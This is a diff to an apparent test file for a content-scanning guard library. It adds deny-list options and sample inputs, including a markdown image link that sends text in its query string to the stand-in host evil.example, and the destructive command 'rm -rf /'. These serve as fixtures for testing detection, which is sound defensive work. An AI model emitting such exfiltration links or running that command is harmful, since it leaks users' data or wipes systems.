@@ -17,7 +17,9 @@ from guard.errors import MissingExtra
 from guard.values import Detector, Finding, Item, Location, Match, PatternReach, Role, ScanningDetector, Span, Stage
 
 OPTIONS: dict[str, dict[str, Any]] = {
-    "patterns": {"words": ["darn", "kill yourself"], "patterns": [{"pattern": "ticket-[0-9]+", "category": "custom/ticket"}]}
+    "patterns": {"words": ["darn", "kill yourself"], "patterns": [{"pattern": "ticket-[0-9]+", "category": "custom/ticket"}]},
+    "topic": {"denied": [{"name": "violence", "words": ["hate"], "phrases": ["find you"]}]},
+    "url": {"denied": ["evil.example"]},
 }
 NEEDS_SERVICE = frozenset({"openai", "llama-guard", "llm-judge", "http"})
 
@@ -35,6 +37,8 @@ TEXTS = (
     "I hate you and I will find you. ",
     "Плохо. 你好。 ",
     "\ud800 lone ",
+    "![a](https://evil.example/i.png?q=hello+my+friend) ",
+    "so rm -rf / it ",
 )
 
 
